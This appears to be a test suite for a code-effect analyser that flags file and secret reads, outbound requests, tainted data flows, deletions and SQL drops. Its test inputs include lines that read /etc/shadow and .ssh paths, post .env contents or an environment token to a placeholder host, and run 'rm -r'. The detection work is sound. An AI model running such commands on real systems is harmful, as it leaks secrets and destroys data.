"""Values become resources: exact ones, folders and hosts that are known in part, and taint."""

from __future__ import annotations

import ast
import dataclasses
import gc

import pytest

from guard import analyse as languages
from guard import path_rules
from guard.analyse.python import analyse
from guard.model import Facts, Kind

FACTS = Facts(workspace="/home/dev/project", home="/home/dev")


@pytest.mark.parametrize(
    ("path", "kind", "name", "exact"),
    [
        ("'a.txt'", Kind.FS_READ, "/home/dev/project/a.txt", True),
        ("'./b/../a.txt'", Kind.FS_READ, "/home/dev/project/a.txt", True),
        ("'/workspace/a'", Kind.FS_READ, "/home/dev/project/a", True),
        ("'/proc/self/root/etc/shadow'", Kind.SECRET_READ, "/etc/shadow", True),
        ("'/etc//passwd'", Kind.FS_READ, "/etc/passwd", True),
        ("'data/' + input()", Kind.FS_READ, "/home/dev/project/data", False),
        ("'/etc/' + input()", Kind.FS_READ, "/etc", False),
        ("'/' + input()", Kind.FS_READ, "/", False),
        ("input() + '/etc'", Kind.FS_READ, "/", False),
        ("'.ssh/' + input()", Kind.SECRET_READ, "/home/dev/project/.ssh", False),
        ("b'a.txt'", Kind.FS_READ, "/home/dev/project/a.txt", True),
        ("'.ENV'", Kind.SECRET_READ, "/home/dev/project/.ENV", True),
    ],
)
def test_a_path_is_canonical_and_as_exact_as_it_is_known(path: str, kind: Kind, name: str, exact: bool) -> None:
    effects = analyse(f"open({path})", FACTS)
    assert [(effect.kind, effect.resource.name, effect.exact) for effect in effects] == [(kind, name, exact)]


@pytest.mark.parametrize(
    ("url", "name"),
    [
        ("'https://API.Example.com./x'", "api.example.com:443"),
        ("'http://user:pw@a.example:8080/'", "a.example:8080"),
        ("f'https://a.example/{input()}'", "a.example:443"),
        ("f'https://{input()}.example/'", ""),
        ("'https://a.exam' + input()", ""),
        ("'http://2130706433/'", "127.0.0.1:80"),
    ],
)
def test_a_url_has_a_host_only_where_it_is_known_to_its_end(url: str, name: str) -> None:
    effect = analyse(f"import requests\nrequests.get({url})", FACTS)[0]
    assert (effect.resource.name, effect.exact) == (name, bool(name))


@pytest.mark.parametrize(
    ("code", "tainted"),
    [
        ("requests.post(U, data=open('.env').read())", True),
        ("text = open('a').read()\nrequests.post(U, json={'t': text.strip()[:5]})", True),
        ("requests.get(U + os.environ['TOKEN'])", True),
        ("with open('a') as f:\n    rows = [line.split() for line in f]\nrequests.post(U, json=rows)", True),
        ("def load():\n    return open('a').read()\nrequests.post(U, data=load())", True),
        ("requests.post(U, data='hello')", False),
        ("open('a').read()\nrequests.post(U, data='hello')", False),
    ],
)
def test_what_was_read_and_flows_into_a_request_is_said(code: str, tainted: bool) -> None:
    effects = analyse(f"import os, requests\nU = 'https://a.example/'\n{code}\n", FACTS)
    assert any(effect.tainted for effect in effects if effect.kind.value.startswith("http.")) is tainted


def test_embedded_commands_and_sql_carry_the_place_in_the_program() -> None:
    effects = analyse("import subprocess\n\nsubprocess.run(['rm', '-r', 'build'])\n", FACTS)
    assert {effect.span.line for effect in effects if effect.span} == {3}
    assert {Kind.PROC_EXEC, Kind.FS_DELETE} <= {effect.kind for effect in effects}


def test_nothing_of_a_program_is_left_for_the_collector():
    code = """class C:
    def left_behind(self):
        return lambda: self
def outer():
    def inner():
        return outer()
    return inner()
outer()
C().left_behind()
"""
    gc.collect()
    gc.disable()
    try:
        analyse(code, FACTS)
        assert not [one for one in gc.get_objects() if isinstance(one, ast.FunctionDef) and one.name == "left_behind"]
    finally:
        gc.enable()


def test_texts_that_come_to_one_place_are_each_read_and_for_each_database() -> None:
    code = (
        "import sqlite3\n"
        "def run(path, sql):\n"
        "    sqlite3.connect(path).execute(sql)\n"
        "run('a.db', 'DELETE FROM t')\n"
        "run('a.db', 'DROP TABLE u')\n"
        "run('b.db', 'DELETE FROM t')\n"
        "run('a.db', 'DELETE FROM t')\n"
    )
    found = {(e.kind, e.resource.name) for e in analyse(code, FACTS) if e.kind.value.startswith("sql.")}
    assert found == {(Kind.SQL_DELETE, "a.db/t"), (Kind.SQL_DROP, "a.db/u"), (Kind.SQL_DELETE, "b.db/t")}


FIRST_ARGUMENT = "import sys\nopen(sys.argv[1] if len(sys.argv) > 1 else 'a.txt')\n"


def test_behind_a_wrapped_server_and_on_a_command_line_a_program_may_have_arguments() -> None:
    server = dataclasses.replace(FACTS, server="other")
    line = f'python3 -c "{FIRST_ARGUMENT}" /etc/passwd'
    for effects in (analyse(FIRST_ARGUMENT, server), languages.analyse("shell", line, FACTS).effects):
        assert path_rules.ANYWHERE in {effect.resource for effect in effects if effect.kind is Kind.FS_READ}
    assert path_rules.ANYWHERE not in {effect.resource for effect in analyse(FIRST_ARGUMENT, FACTS)}
